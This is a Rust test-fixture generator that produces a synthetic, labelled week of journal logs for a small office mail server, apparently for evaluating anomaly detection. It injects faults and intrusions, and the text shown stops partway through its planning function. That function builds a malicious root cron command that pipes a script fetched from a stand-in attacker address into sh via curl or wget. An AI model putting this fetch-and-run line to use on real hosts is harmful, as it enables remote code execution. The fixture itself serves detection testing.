//! A synthetic, deterministic week of journal lines from one Linux host: `mx1`, the mail and file
//! server of a small office (Debian 12: postfix + dovecot, samba, NFS exports, ClamAV, a nightly
//! borg backup triggered over ssh, admins logging in with sudo), with labelled faults and
//! intrusions injected after the first day.
//!
//! Std only, no crates; include it with `#[path = "common/host_week.rs"] mod host_week;`.
//!
//! * [`generate`] returns the whole week, sorted by time; the same seed gives the same lines, and
//!   different seeds change the details (users, admins, addresses, timings, which day each fault
//!   happens) while the structure stays the same.
//! * Normal lines have `label == None`, including new but benign things that appear mid-week and
//!   then recur (a new admin's first login, a new root cron job, a newly installed package and
//!   its service, a package upgrade) and ordinary lines around a fault whose text also occurs in
//!   normal operation (unit restarts, session teardown, `Consumed ... CPU time`).
//! * Genuinely abnormal lines carry one of [`KINDS`].
//!
//! Local time on the host is UTC (a UK office in November).
#![allow(dead_code)]

use std::fmt::Write as _;

/// 2026-11-02T00:00:00Z, a Monday: the first microsecond of the week.
pub const START_SEC: u64 = 1_793_577_600;
/// `_HOSTNAME` of every line.
pub const HOSTNAME: &str = "mx1";
/// Every label [`generate`] uses.
pub const KINDS: [&str; 10] = [
    "disk",
    "oom",
    "bruteforce",
    "root-login",
    "kernel",
    "crash",
    "disk-full",
    "unit-failed",
    "privesc",
    "malicious-cron",
];

const SEC: u64 = 1_000_000;
const MIN: u64 = 60 * SEC;
const HOUR: u64 = 60 * MIN;
const DAY: u64 = 24 * HOUR;
const NDAYS: u64 = 7;
const T0: u64 = START_SEC * SEC;
const T_END: u64 = T0 + NDAYS * DAY;
const PID_MAX: u64 = 4_194_304;
const SERVER_IP: &str = "10.20.0.5";
const VAULT_IP: &str = "10.20.0.8";

/// One journal entry.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Line {
    /// Microseconds since the Unix epoch (`__REALTIME_TIMESTAMP`).
    pub usec: u64,
    /// `SYSLOG_IDENTIFIER`, as the program logs it.
    pub identifier: &'static str,
    /// `_PID`; `None` for kernel lines.
    pub pid: Option<u32>,
    /// `MESSAGE` (may hold newlines, as systemd-coredump's does).
    pub message: String,
    /// `None` for normal operation, otherwise the kind of fault or intrusion (one of [`KINDS`]).
    pub label: Option<&'static str>,
}

impl Line {
    /// `identifier[pid]: message` (or `identifier: message` without a pid), as `journalctl -o cat`-like syslog text without timestamp/host.
    pub fn plain(&self) -> String {
        match self.pid {
            Some(pid) => format!("{}[{}]: {}", self.identifier, pid, self.message),
            None => format!("{}: {}", self.identifier, self.message),
        }
    }

    /// `journalctl -o short-iso`: `2026-11-02T09:17:03+00:00 mx1 ` before [`Line::plain`].
    pub fn short_iso(&self) -> String {
        let seconds = self.usec / SEC - START_SEC;
        // The whole week lies in November 2026, from Monday the 2nd.
        format!(
            "2026-11-{:02}T{:02}:{:02}:{:02}+00:00 {HOSTNAME} {}",
            2 + seconds / 86_400,
            seconds % 86_400 / 3600,
            seconds % 3600 / 60,
            seconds % 60,
            self.plain()
        )
    }

    /// One `journalctl -o json` object: __REALTIME_TIMESTAMP (string of usec), _HOSTNAME "mx1", SYSLOG_IDENTIFIER, _PID (string) when there is one, PRIORITY (string digit, plausible per line), MESSAGE. Properly JSON-escaped.
    pub fn journal_json(&self) -> String {
        let mut s = String::with_capacity(self.message.len() + 160);
        let _ = write!(
            s,
            "{{\"__REALTIME_TIMESTAMP\":\"{}\",\"_HOSTNAME\":\"{}\",\"SYSLOG_IDENTIFIER\":\"",
            self.usec, HOSTNAME
        );
        json_escape(&mut s, self.identifier);
        s.push('"');
        if let Some(pid) = self.pid {
            let _ = write!(s, ",\"_PID\":\"{pid}\"");
        }
        let _ = write!(s, ",\"PRIORITY\":\"{}\",\"MESSAGE\":\"", self.priority());
        json_escape(&mut s, &self.message);
        s.push_str("\"}");
        s
    }

    /// The syslog priority (0 emerg .. 7 debug) the program would plausibly have used.
    pub fn priority(&self) -> u8 {
        let m = self.message.as_str();
        let has = |s: &str| m.contains(s);
        match self.identifier {
            "kernel" => {
                if has("soft lockup") {
                    0
                } else if has("Out of memory")
                    || has("I/O error")
                    || has("EXT4-fs error")
                    || has("failed command")
                    || has("res 41/")
                {
                    3
                } else if has("[UFW BLOCK]")
                    || has("invoked oom-killer")
                    || has("exception Emask")
                    || has("status: {")
                    || has("error: {")
                    || has("Modules linked in")
                    || has("Not tainted")
                    || has("Hardware name")
                    || has("RIP:")
                    || has("perf: interrupt")
                {
                    4
                } else if has("ata3") || has("usb ") && has("disconnect") {
                    5
                } else {
                    6
                }
            }
            "sudo" => {
                if has("NOT in sudoers") {
                    1
                } else if has("COMMAND=") {
                    5
                } else {
                    6
                }
            }
            "su" => 5,
            "sshd" => {
                if has("error:") {
                    3
                } else {
                    6
                }
            }
            "smartd" => {
                if has("(pending) sectors") && !has("No more") {
                    2
                } else if has("warning") || has("Warning") {
                    4
                } else {
                    6
                }
            }
            "systemd-coredump" => 2,
            "systemd" => {
                if has("Failed to start") {
                    3
                } else if has("Failed with result") || has("killed by the OOM killer") {
                    4
                } else if has("Main process exited") {
                    5
                } else {
                    6
                }
            }
            "certbot" => 3,
            "crontab" | "cron" | "CRON" | "chronyd" | "dhclient" | "borg" | "rpc.mountd" => 6,
            _ => {
                if has("Fatal:") || has("fatal:") || has("PANIC") {
                    2
                } else if has("Error:") || has("error:") || has("ERROR") {
                    3
                } else if has("warning:") || has("Warning:") || has("WARNING") {
                    4
                } else {
                    6
                }
            }
        }
    }
}

fn json_escape(out: &mut String, s: &str) {
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
}

/// The whole week, sorted by time; the same seed gives the same lines.
pub fn generate(seed: u64) -> Vec<Line> {
    let mut g = Gen::new(seed);
    plan(&mut g);
    timers(&mut g);
    cron(&mut g);
    clam(&mut g);
    faults(&mut g);
    sessions(&mut g);
    misc(&mut g);
    mail(&mut g);
    imap(&mut g);
    samba(&mut g);
    nfs(&mut g);
    let mut lines = std::mem::take(&mut g.lines);
    lines.sort_by_key(|l| l.usec);
    lines
}

// ---------------------------------------------------------------------------------------------
// randomness, time, strings

#[derive(Clone)]
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        let mut r = Rng(seed);
        r.next();
        r
    }
    fn next(&mut self) -> u64 {
        // splitmix64
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        if n == 0 {
            0
        } else {
            self.next() % n
        }
    }
    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }
    fn f(&mut self) -> f64 {
        (self.next() >> 11) as f64 * (1.0 / 9_007_199_254_740_992.0)
    }
    fn chance(&mut self, p: f64) -> bool {
        self.f() < p
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
    fn normal(&mut self) -> f64 {
        let u1 = self.f().max(1e-12);
        let u2 = self.f();
        (-2.0 * u1.ln()).sqrt() * (2.0 * std::f64::consts::PI * u2).cos()
    }
    fn exp(&mut self, mean: f64) -> f64 {
        -mean * (1.0 - self.f()).max(1e-12).ln()
    }
    fn poisson(&mut self, lam: f64) -> u32 {
        let l = (-lam).exp();
        let mut k = 0;
        let mut p = 1.0;
        loop {
            p *= self.f();
            if p <= l || k > 200 {
                return k;
            }
            k += 1;
        }
    }
    fn shuffle<T>(&mut self, xs: &mut [T]) {
        for i in (1..xs.len()).rev() {
            let j = self.below(i as u64 + 1) as usize;
            xs.swap(i, j);
        }
    }
    /// A duration in microseconds, uniform in `lo_s..hi_s` seconds.
    fn us(&mut self, lo_s: f64, hi_s: f64) -> u64 {
        ((lo_s + (hi_s - lo_s) * self.f()) * 1e6) as u64
    }
    fn port(&mut self) -> u16 {
        self.range(32768, 60999) as u16
    }
    fn win_port(&mut self) -> u16 {
        self.range(49152, 65535) as u16
    }
}

fn at(d: u64, h: u64, m: u64, s: u64) -> u64 {
    T0 + d * DAY + h * HOUR + m * MIN + s * SEC
}
fn day_of(t: u64) -> u64 {
    (t - T0) / DAY
}
fn hour_of(t: u64) -> f64 {
    ((t - T0) % DAY) as f64 / HOUR as f64
}
fn weekday(d: u64) -> bool {
    d < 5
}
fn next_minute(t: u64) -> u64 {
    (t / MIN + 1) * MIN
}
fn working(t: u64) -> bool {
    let h = hour_of(t);
    weekday(day_of(t)) && (8.0..17.5).contains(&h)
}

/// How busy the office is, 0..1.
fn activity(t: u64) -> f64 {
    let d = day_of(t);
    let h = hour_of(t);
    if !weekday(d) {
        return if (10.0..18.0).contains(&h) {
            0.12
        } else {
            0.05
        };
    }
    let w = if h < 6.0 {
        0.04
    } else if h < 7.0 {
        0.04 + 0.16 * (h - 6.0)
    } else if h < 8.5 {
        0.2 + 0.8 * (h - 7.0) / 1.5
    } else if h < 12.0 {
        1.0
    } else if h < 13.0 {
        0.75
    } else if h < 17.0 {
        0.95
    } else if h < 19.0 {
        0.95 - 0.75 * (h - 17.0) / 2.0
    } else if h < 23.0 {
        0.2 - 0.14 * (h - 19.0) / 4.0
    } else {
        0.05
    };
    if d == 4 && h > 15.0 {
        w * 0.75
    } else {
        w
    }
}

/// Event times of a Poisson process with a time-varying rate (events per hour).
fn poisson_times(r: &mut Rng, from: u64, to: u64, rate: impl Fn(u64) -> f64) -> Vec<u64> {
    let mut out = Vec::new();
    let mut t = from;
    while t < to {
        let n = r.poisson(rate(t) / 60.0);
        for _ in 0..n {
            out.push(t + r.below(MIN));
        }
        t += MIN;
    }
    out.sort_unstable();
    out
}

struct Tm {
    year: i64,
    mon: u32,
    day: u32,
    h: u64,
    m: u64,
    s: u64,
    us: u64,
    wday: usize,
}

fn tm(t: u64) -> Tm {
    let secs = t / SEC;
    let days = (secs / 86_400) as i64;
    let rem = secs % 86_400;
    // Howard Hinnant's civil_from_days
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let mon = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let year = yoe + era * 400 + if mon <= 2 { 1 } else { 0 };
    Tm {
        year,
        mon,
        day,
        h: rem / 3600,
        m: rem % 3600 / 60,
        s: rem % 60,
        us: t % SEC,
        wday: ((days + 4).rem_euclid(7)) as usize,
    }
}

const WDAY: [&str; 7] = ["Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"];
const MON: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// `2026/11/02 09:12:33.123456` (samba's debug header).
fn samba_ts(t: u64) -> String {
    let x = tm(t);
    format!(
        "{}/{:02}/{:02} {:02}:{:02}:{:02}.{:06}",
        x.year, x.mon, x.day, x.h, x.m, x.s, x.us
    )
}
/// `Mon Nov  2 09:14:25 2026` (ctime, as ClamAV logs).
fn ctime(t: u64) -> String {
    let x = tm(t);
    format!(
        "{} {} {:>2} {:02}:{:02}:{:02} {}",
        WDAY[x.wday],
        MON[x.mon as usize - 1],
        x.day,
        x.h,
        x.m,
        x.s,
        x.year
    )
}
/// `Nov  2 09:12:13` (postfix anvil).
fn syslog_ts(t: u64) -> String {
    let x = tm(t);
    format!(
        "{} {:>2} {:02}:{:02}:{:02}",
        MON[x.mon as usize - 1],
        x.day,
        x.h,
        x.m,
        x.s
    )
}
/// `Tue, 2026-11-03 01:30:05` (borg).
fn borg_ts(t: u64) -> String {
    let x = tm(t);
    format!(
        "{}, {}-{:02}-{:02} {:02}:{:02}:{:02}",
        WDAY[x.wday], x.year, x.mon, x.day, x.h, x.m, x.s
    )
}
/// `2026-11-03T01:30:04`.
fn iso(t: u64) -> String {
    let x = tm(t);
    format!(
        "{}-{:02}-{:02}T{:02}:{:02}:{:02}",
        x.year, x.mon, x.day, x.h, x.m, x.s
    )
}
/// `20261103013004`.
fn compact(t: u64) -> String {
    let x = tm(t);
    format!(
        "{}{:02}{:02}{:02}{:02}{:02}",
        x.year, x.mon, x.day, x.h, x.m, x.s
    )
}

const HEXU: &[u8] = b"0123456789ABCDEF";
const HEXL: &[u8] = b"0123456789abcdef";
const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const UPNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
const LOWNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";

fn rs(r: &mut Rng, alphabet: &[u8], n: usize) -> String {
    (0..n)
        .map(|_| alphabet[r.below(alphabet.len() as u64) as usize] as char)
        .collect()
}
fn qid(r: &mut Rng) -> String {
    let n = if r.chance(0.8) { 10 } else { 11 };
    let first = HEXU[r.range(1, 15) as usize] as char;
    format!("{first}{}", rs(r, HEXU, n - 1))
}
fn uuid(r: &mut Rng) -> String {
    format!(
        "{}-{}-4{}-{}{}-{}",
        rs(r, HEXL, 8),
        rs(r, HEXL, 4),
        rs(r, HEXL, 3),
        *r.pick(&['8', '9', 'a', 'b']),
        rs(r, HEXL, 3),
        rs(r, HEXL, 12)
    )
}
fn ext_ip(r: &mut Rng) -> String {
    loop {
        let a = r.range(5, 223);
        if [10, 127, 169, 172, 192, 100].contains(&a) {
            continue;
        }
        return format!(
            "{}.{}.{}.{}",
            a,
            r.below(256),
            r.below(256),
            r.range(1, 254)
        );
    }
}

/// systemd's `format_timespan` at millisecond accuracy: `518ms`, `2.104s`, `1min 3.2s`.
fn span(us: u64) -> String {
    let ms = ((us + 500) / 1000).max(1);
    if ms < 1000 {
        return format!("{ms}ms");
    }
    let h = ms / 3_600_000;
    let mi = ms / 60_000 % 60;
    let s = ms / 1000 % 60;
    let frac = ms % 1000;
    let mut out = String::new();
    if h > 0 {
        let _ = write!(out, "{h}h ");
    }
    if mi > 0 {
        let _ = write!(out, "{mi}min ");
    }
    if s > 0 {
        if frac > 0 {
            let f = format!("{frac:03}");
            let _ = write!(out, "{s}.{}s", f.trim_end_matches('0'));
        } else {
            let _ = write!(out, "{s}s");
        }
    } else if frac > 0 {
        let _ = write!(out, "{frac}ms");
    }
    out.trim_end().to_string()
}

/// postfix's delay formatting.
fn pf(x: f64) -> String {
    let s = if x < 0.005 {
        return "0".into();
    } else if x < 1.0 {
        format!("{x:.2}")
    } else if x < 10.0 {
        format!("{x:.1}")
    } else {
        return format!("{x:.0}");
    };
    s.trim_end_matches('0').trim_end_matches('.').to_string()
}

fn gb(x: f64) -> String {
    if x >= 1000.0 {
        format!("{:.2} TB", x / 1000.0)
    } else if x >= 1.0 {
        format!("{x:.2} GB")
    } else {
        format!("{:.2} MB", x * 1000.0)
    }
}

// ---------------------------------------------------------------------------------------------
// the host

const NAMES: [&str; 40] = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "karl",
    "laura", "mike", "nina", "oscar", "peggy", "quentin", "rita", "sam", "tina", "ursula",
    "victor", "wendy", "xavier", "yusuf", "zoe", "anna", "ben", "chris", "diana", "emil", "fiona",
    "george", "hannah", "igor", "julia", "kevin", "lena", "marco", "mallory",
];
const SURNAMES: [&str; 24] = [
    "smith", "jones", "taylor", "brown", "wilson", "evans", "thomas", "roberts", "walker",
    "wright", "green", "hall", "wood", "clarke", "hughes", "patel", "khan", "murphy", "kelly",
    "novak", "schmidt", "rossi", "dubois", "larsen",
];
const DOMAINS: [&str; 3] = [
    "hallam-design.co.uk",
    "northbrook-eng.co.uk",
    "fenwick-lane.co.uk",
];

struct User {
    name: &'static str,
    uid: u32,
    ip: String,
    vpn: String,
    phone: Option<String>,
    host: String,
    pc: bool,
    weight: f64,
    fp: String,
}

#[derive(Default)]
struct Daemons {
    journald: u32,
    dhclient: u32,
    chronyd: u32,
    smartd: u32,
    logind: u32,
    cron: u32,
    mountd: u32,
    dovecot: u32,
    smbd: u32,
    master: u32,
    qmgr: u32,
    freshclam0: u32,
}

#[derive(Default, Clone)]
struct Check {
    t: u64,
    update: bool,
    startup: bool,
}

#[derive(Default, Clone)]
struct ClamPeriod {
    start: u64,
    end: u64,
    pid: u32,
    startup: bool,
    oom: bool,
}

#[derive(Default)]
struct Plan {
    adu: Vec<u64>,
    upgrade_t: u64,
    ssl_day: u64,
    fresh_restart: u64,
    fresh_pid1: u32,
    checks: Vec<Check>,
    clamd: Vec<ClamPeriod>,
    ooms: Vec<(usize, u64)>,
    imap_oom: Option<(u64, usize)>,
    brute_t: u64,
    brute_ip: String,
    brute_n: usize,
    root_t: u64,
    mal_reload: u64,
    mal_minute: u64,
    mal_hours: [u64; 2],
    mal_cmd: String,
    cron_reload: u64,
    cron_minute: u64,
    cron_cmd: String,
    disk_t: u64,
    lockup_t: u64,
    crash_t: u64,
    full_t: u64,
    full_end: u64,
    certbot: Vec<(u64, bool)>,
    new_admin_first: u64,
}

enum Act {
    Sudo(String, u64),
    Denied(String),
    SuFail,
    CrontabEdit(u64, u64),
    CrontabPipe(u64),
}

struct Sess {
    start: u64,
    end: u64,
    user: String,
    uid: u32,
    ip: String,
    port: u16,
    auth: String,
    pty: bool,
    home: String,
    cmds: Vec<(u64, Act)>,
    label: Option<&'static str>,
}

struct Pool {
    pid: u32,
    last: u64,
    uses: u32,
    idle: u64,
    slot: u32,
}

impl Pool {
    /// Processes of one postfix/dovecot service, reused until idle for `idle_s`; `slot` keeps
    /// services spawned in the same second from getting the same pid.
    fn new(idle_s: u64, slot: u32) -> Pool {
        Pool {
            pid: 0,
            last: 0,
            uses: 0,
            idle: idle_s * SEC,
            slot,
        }
    }
    fn get(&mut self, g: &Gen, r: &mut Rng, t: u64) -> u32 {
        if self.pid == 0 || t > self.last + self.idle || self.uses >= 100 {
            self.pid = g.pid_at(r, t) + 20 + 4 * self.slot + r.below(3) as u32;
            self.uses = 0;
        }
        self.uses += 1;
        self.last = self.last.max(t);
        self.pid
    }
}

struct Gen {
    seed: u64,
    lines: Vec<Line>,
    rate: Vec<f64>,
    cum: Vec<f64>,
    pid_base: f64,
    dom: &'static str,
    fqdn: String,
    users: Vec<User>,
    admins: Vec<usize>,
    new_admin: usize,
    mallory: usize,
    d: Daemons,
    p: Plan,
    sess: Vec<Sess>,
    local_mail: Vec<u64>,
    backup_fp: String,
    sid_base: u32,
}

impl Gen {
    fn new(seed: u64) -> Gen {
        let mut g = Gen {
            seed,
            lines: Vec::with_capacity(12_000),
            rate: Vec::new(),
            cum: vec![0.0],
            pid_base: 0.0,
            dom: DOMAINS[0],
            fqdn: String::new(),
            users: Vec::new(),
            admins: Vec::new(),
            new_admin: 0,
            mallory: 0,
            d: Daemons::default(),
            p: Plan::default(),
            sess: Vec::new(),
            local_mail: Vec::new(),
            backup_fp: String::new(),
            sid_base: 0,
        };
        let mut r = g.rng(0x01);
        // pid allocation: forks per minute follow the office's activity
        let nmin = (NDAYS * 24 * 60) as usize;
        for m in 0..nmin {
            let a = activity(T0 + m as u64 * MIN);
            let rate = 60.0 + 240.0 * a + r.f() * 20.0;
            g.rate.push(rate);
            let c = g.cum[m] + rate;
            g.cum.push(c);
        }
        g.pid_base = (PID_MAX - r.range(150_000, 430_000)) as f64;
        g.dom = *r.pick(&DOMAINS);
        g.fqdn = format!("{}.{}", HOSTNAME, g.dom);
        g.d = Daemons {
            journald: r.range(240, 420) as u32,
            dhclient: r.range(520, 600) as u32,
            chronyd: r.range(610, 680) as u32,
            smartd: r.range(690, 740) as u32,
            logind: r.range(745, 790) as u32,
            cron: r.range(800, 840) as u32,
            mountd: r.range(900, 980) as u32,
            dovecot: r.range(1010, 1090) as u32,
            smbd: r.range(1120, 1190) as u32,
            master: r.range(1400, 1500) as u32,
            qmgr: r.range(1510, 1540) as u32,
            freshclam0: r.range(850, 890) as u32,
        };
        g.sid_base = r.range(180, 2400) as u32;
        g.backup_fp = rs(&mut r, B64, 43);
        // users
        let mut order: Vec<usize> = (0..NAMES.len() - 1).collect();
        r.shuffle(&mut order);
        order.push(NAMES.len() - 1); // mallory stays an ordinary user
        let mut ips: Vec<u64> = (30..=160).collect();
        r.shuffle(&mut ips);
        let mut uid_order: Vec<usize> = (0..NAMES.len()).collect();
        r.shuffle(&mut uid_order);
        for (i, &ni) in order.iter().enumerate() {
            let name = NAMES[ni];
            let pc = ni == NAMES.len() - 1 || r.chance(0.5);
            let host = match r.below(5) {
                0 | 1 => format!("desktop-{}", rs(&mut r, LOWNUM, 7)),
                2 => format!("laptop-{}", rs(&mut r, LOWNUM, 8)),
                3 => format!("ws-{:03}", ips[i]),
                _ => format!("{name}-pc"),
            };
            let phone = if r.chance(0.55) {
                Some(format!(
                    "{}.{}.{}",
                    r.pick(&["82.132", "86.15", "92.40", "176.250", "31.94", "148.252"]),
                    r.below(256),
                    r.range(1, 254)
                ))
            } else {
                None
            };
            g.users.push(User {
                name,
                uid: 1001 + uid_order[i] as u32,
                ip: format!("10.20.0.{}", ips[i]),
                vpn: format!("10.20.8.{}", 10 + i),
                phone,
                host,
                pc,
                weight: 0.25 + r.exp(1.0),
                fp: rs(&mut r, B64, 43),
            });
        }
        g.admins = vec![0, 1];
        if r.chance(0.5) {
            g.admins.push(2);
        }
        g.new_admin = 3;
        g.mallory = g.users.len() - 1;
        // admins have the oldest accounts
        for (k, &a) in g.admins.clone().iter().enumerate() {
            let old = g.users[a].uid;
            let target = 1000 + k as u32;
            if let Some(o) = g.users.iter_mut().find(|u| u.uid == target) {
                o.uid = old;
            }
            g.users[a].uid = target;
        }
        for &a in &g.admins.clone() {
            g.users[a].pc = true;
        }
        g
    }

    fn rng(&self, tag: u64) -> Rng {
        Rng::new(
            self.seed.wrapping_mul(0x2545_F491_4F6C_DD1D) ^ tag.wrapping_mul(0x9E37_79B9_7F4A_7C15),
        )
    }

    /// The pid a process forked at `t` gets: increasing with the fork rate, wrapping at pid_max.
    fn pid_at(&self, r: &mut Rng, t: u64) -> u32 {
        let rel = (t.saturating_sub(T0)) as f64 / MIN as f64;
        let m = (rel as usize).min(self.rate.len() - 1);
        let frac = (rel - m as f64).clamp(0.0, 1.0);
        let x = self.pid_base + self.cum[m] + frac * self.rate[m] + r.f() * self.rate[m] / 30.0;
        let mut p = x as u64;
        while p >= PID_MAX {
            p = p - PID_MAX + 300;
        }
        p as u32
    }

    fn push(
        &mut self,
        usec: u64,
        ident: &'static str,
        pid: Option<u32>,
        msg: impl Into<String>,
        label: Option<&'static str>,
    ) {
        if (T0..T_END).contains(&usec) {
            self.lines.push(Line {
                usec,
                identifier: ident,
                pid,
                message: msg.into(),
                label,
            });
        }
    }
    fn sys(&mut self, t: u64, msg: impl Into<String>) {
        self.push(t, "systemd", Some(1), msg, None);
    }
    fn sysl(&mut self, t: u64, msg: impl Into<String>, label: Option<&'static str>) {
        self.push(t, "systemd", Some(1), msg, label);
    }
    fn kern(&mut self, t: u64, msg: impl Into<String>, label: Option<&'static str>) {
        self.push(t, "kernel", None, msg, label);
    }

    /// A oneshot unit run by a timer: Starting / Deactivated / Finished / Consumed.
    fn oneshot(&mut self, t: u64, unit: &str, desc: &str, dur: u64, cpu: u64) -> u64 {
        self.sys(t, format!("Starting {unit} - {desc}..."));
        let e = t + dur;
        self.sys(e, format!("{unit}: Deactivated successfully."));
        self.sys(e + 60, format!("Finished {unit} - {desc}."));
        self.sys(e + 140, format!("{unit}: Consumed {} CPU time.", span(cpu)));
        e
    }

    fn user_sess(&self, r: &mut Rng, u: usize, start: u64, dur: u64, ip: String) -> Sess {
        let user = &self.users[u];
        Sess {
            start,
            end: start + dur,
            user: user.name.to_string(),
            uid: user.uid,
            ip,
            port: r.port(),
            auth: format!(
                "publickey for {} from {{ip}} port {{port}} ssh2: ED25519 SHA256:{}",
                user.name, user.fp
            ),
            pty: true,
            home: format!("/home/{}", user.name),
            cmds: Vec::new(),
            label: None,
        }
    }

    fn clamd_pid(&self, t: u64) -> Option<u32> {
        self.p
            .clamd
            .iter()
            .find(|c| c.start <= t && t < c.end)
            .map(|c| c.pid)
    }
}

// ---------------------------------------------------------------------------------------------
// the plan: when the benign novelties and the faults happen

fn plan(g: &mut Gen) {
    let mut r = g.rng(0x11);
    let mut p = Plan::default();
    for d in 0..NDAYS {
        p.adu.push(at(d, 6, 0, 0) + r.below(HOUR));
    }
    p.upgrade_t = p.adu[0] + r.us(35.0, 55.0);
    p.ssl_day = r.range(3, 4);

    // freshclam checks (Checks 12), restarted by the clamav upgrade on Monday morning
    p.fresh_restart = p.upgrade_t + r.us(6.0, 9.0);
    p.fresh_pid1 = g.pid_at(&mut r, p.fresh_restart) + 5;
    let mut t = T0 + r.below(2 * HOUR);
    while t < p.upgrade_t {
        let update = r.chance(0.2);
        p.checks.push(Check {
            t,
            update,
            startup: false,
        });
        t += 2 * HOUR + r.below(2 * SEC);
    }
    let mut t = p.fresh_restart + r.us(2.0, 4.0);
    p.checks.push(Check {
        t,
        update: false,
        startup: true,
    });
    loop {
        t += 2 * HOUR + r.below(2 * SEC);
        if t >= T_END {
            break;
        }
        let update = r.chance(0.2);
        p.checks.push(Check {
            t,
            update,
            startup: false,
        });
    }

    // OOM kills of clamd while it reloads its database (twice the memory), on 3 different days
    let mut days: Vec<u64> = (1..=6).collect();
    r.shuffle(&mut days);
    let mut od = days[..3].to_vec();
    od.sort_unstable();
    let mut last_start = p.upgrade_t;
    let mut restarts: Vec<(u64, Option<u64>)> = Vec::new();
    for &d in &od {
        let lo = at(d, 0, 0, 0).max(last_start + 2 * HOUR);
        let hi = at(d + 1, 0, 0, 0);
        let cands: Vec<usize> = (0..p.checks.len())
            .filter(|&i| p.checks[i].t >= lo && p.checks[i].t < hi && !p.checks[i].startup)
            .collect();
        if cands.is_empty() {
            continue;
        }
        let ups: Vec<usize> = cands
            .iter()
            .copied()
            .filter(|&i| p.checks[i].update)
            .collect();
        let ci = if ups.is_empty() {
            let i = *r.pick(&cands);
            p.checks[i].update = true;
            i
        } else {
            *r.pick(&ups)
        };
        let oom_t = p.checks[ci].t + r.us(16.0, 40.0);
        let restart = if working(oom_t) && hour_of(oom_t) < 16.5 {
            oom_t + r.us(20.0 * 60.0, 75.0 * 60.0)
        } else if hour_of(oom_t) < 8.0 {
            at(d, 8, 40, 0) + r.below(100 * MIN)
        } else {
            at(d + 1, 8, 40, 0) + r.below(100 * MIN)
        };
        let restart = if restart + 30 * MIN < T_END {
            Some(restart)
        } else {
            None
        };
        p.ooms.push((ci, oom_t));
        restarts.push((oom_t, restart));
        last_start = restart.unwrap_or(T_END);
    }
    // clamd's lifetimes
    p.clamd.push(ClamPeriod {
        start: T0,
        end: p.upgrade_t,
        pid: r.range(700, 790) as u32,
        startup: false,
        oom: false,
    });
    let s1 = p.upgrade_t + r.us(1.5, 3.0);
    let mut cur = ClamPeriod {
        start: s1,
        end: T_END,
        pid: g.pid_at(&mut r, s1),
        startup: true,
        oom: false,
    };
    for &(oom_t, restart) in &restarts {
        cur.end = oom_t;
        cur.oom = true;
        p.clamd.push(cur.clone());
        match restart {
            Some(rs_) => {
                cur = ClamPeriod {
                    start: rs_,
                    end: T_END,
                    pid: g.pid_at(&mut r, rs_) + 4,
                    startup: true,
                    oom: false,
                };
            }
            None => {
                cur = ClamPeriod::default();
                break;
            }
        }
    }
    if cur.start > 0 {
        p.clamd.push(cur);
    }
    // sometimes the OOM killer also picks an imap process, on yet another day
    if r.chance(0.35) {
        let free: Vec<u64> = (1..=4).filter(|d| !od.contains(d)).collect();
        if !free.is_empty() {
            let d = *r.pick(&free);
            let u = r.below(g.users.len() as u64 - 1) as usize;
            p.imap_oom = Some((at(d, 10, 0, 0) + r.below(6 * HOUR), u));
        }
    }

    // ssh brute force one evening, a root login from an unseen address a night or two later,
    // which plants a root crontab entry
    let bd = r.range(1, 3);
    p.brute_t = at(bd, 19, 0, 0) + r.below(4 * HOUR);
    p.brute_ip = format!("203.0.113.{}", r.range(2, 254));
    p.brute_n = r.range(10, 11) as usize;
    let fail2ban_t = at(bd + 1, 9, 10, 0) + r.below(150 * MIN);
    // (after Wednesday's benign root crontab edit, so REPLACE/RELOAD are known texts by then)
    let rd = ((bd + 1).max(3) + r.below(2)).min(5);
    p.root_t = at(rd, 1, 5, 0) + r.below(200 * MIN);
    let root_ip = format!("{}.{}", r.pick(&["192.0.2", "198.51.100"]), r.range(2, 254));
    let replace_t = p.root_t + r.us(70.0, 150.0);
    p.mal_reload = next_minute(replace_t) + r.us(0.4, 1.4);
    p.mal_minute = loop {
        let m = r.range(1, 59);
        if m != 17 {
            break m;
        }
    };
    let h1 = r.range(0, 23);
    p.mal_hours = [h1, h1];
    let c2 = format!("198.51.100.{}", r.range(2, 254));
    let script = *r.pick(&["x.sh", "k.sh", "up.sh", ".s"]);
    p.mal_cmd = match r.below(3) {
        0 => format!("curl -s http://{c2}/{script} | sh"),
        1 => format!("wget -q -O- http://{c2}/{script} | sh"),
        _ => format!("(curl -fsSL http://{c2}/{script} || wget -q -O- http://{c2}/{script}) | sh"),
    };
